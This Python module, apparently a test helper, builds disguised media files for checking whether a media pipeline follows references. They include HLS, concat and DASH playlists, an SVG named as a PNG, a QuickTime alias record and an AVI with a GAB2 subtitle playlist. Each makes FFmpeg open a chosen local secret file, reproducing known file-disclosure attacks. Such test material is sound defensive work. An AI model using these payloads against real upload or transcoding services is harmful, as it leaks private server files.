"""Traps: files that ask their reader to open another one, as attacks on FFmpeg have done."""

from __future__ import annotations

import struct
from pathlib import Path

_SESSION = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
_BOXES = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def playlists(secret: Path) -> dict[str, bytes]:
    """Texts that name another file, under names of videos and pictures."""
    url, name = f"file://{secret}", str(secret)
    return {
        "hls.mp4": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{url}\n#EXT-X-ENDLIST\n".encode(),
        "concat.mkv": f"ffconcat version 1.0\nfile '{name}'\n".encode(),
        "session.mov": _SESSION.encode(),
        "hidden session.mov": b"\n\n\n\nskip\n" + _SESSION.encode(),  # a box of 168 MB, if it is one
        "dash.mp4": f"<?xml version='1.0'?>\n<MPD><BaseURL>{url}</BaseURL></MPD>".encode(),
        "drawing.png": f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>".encode(),
        "subtitles.avi": subtitles_with_playlist(secret),
    }


def with_data_elsewhere(movie: bytes, secret: Path) -> bytes:
    """The MP4, whose table lies at its end, with its pictures said to be in another file: QuickTime's alias record."""
    name = str(secret).encode()
    record = bytearray(150)
    record[4:6] = struct.pack(">H", 2)  # version
    record[10 : 10 + 6] = b"\x05drive"
    short = secret.name.encode()[:63]
    record[50 : 51 + len(short)] = bytes([len(short)]) + short
    record[130:134] = struct.pack(">hh", 1, 1)  # levels up to their common folder, and down to the file
    for kind, text in ((2, name.replace(b"/", b":")), (18, name)):
        record += struct.pack(">hH", kind, len(text)) + text + bytes(len(text) % 2)
    record += struct.pack(">hH", -1, 0)
    entry = struct.pack(">I4sI", len(record) + 12, b"alis", 0) + bytes(record)
    place = movie.index(b"url \0\0\0\x01") - 4
    grown = bytearray(movie[:place] + entry + movie[place + 12 :])
    for box in _BOXES:
        head = grown.index(box) - 4
        size = int.from_bytes(grown[head : head + 4], "big") + len(entry) - 12
        grown[head : head + 4] = size.to_bytes(4, "big")
    return bytes(grown)


def film_behind_session(movie: bytes) -> bytes:
    """The MP4 behind a box that FFmpeg, if it may guess, takes for the text of a call that is to be joined."""
    size = 0x010A0A0A
    box = size.to_bytes(4, "big") + b"skip\n" + _SESSION.encode()
    grown = bytearray(movie)
    place = movie.index(b"stco") + 4
    for number in range(int.from_bytes(movie[place + 4 : place + 8], "big")):
        where = slice(place + 8 + 4 * number, place + 12 + 4 * number)
        grown[where] = (int.from_bytes(movie[where], "big") + size).to_bytes(4, "big")
    return box + bytes(size - len(box)) + bytes(grown)


def subtitles_with_playlist(secret: Path) -> bytes:
    """An AVI whose subtitles, in a format of their own, are a playlist."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\nfile://{secret}\n#EXT-X-ENDLIST\n".encode()
    subtitles = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    main = _chunk(b"avih", struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 2, 0, 16, 16, 0, 0, 0, 0))
    picture = struct.pack("<IiiHH4s5I", 40, 16, 16, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    streams = _stream(b"vids", b"MJPG", picture) + _stream(b"txts", bytes(4), b"")
    film = _chunk(b"01tx", subtitles) + _chunk(b"00dc", b"\xff\xd8\xff\xd9")
    body = b"AVI " + _list(b"hdrl", main + streams) + _list(b"movi", film)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _stream(kind: bytes, codec: bytes, setup: bytes) -> bytes:
    head = kind + codec + struct.pack("<I2H8I4H", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 16, 16)
    return _list(b"strl", _chunk(b"strh", head) + _chunk(b"strf", setup))


def _list(kind: bytes, content: bytes) -> bytes:
    return _chunk(b"LIST", kind + content)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return kind + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)
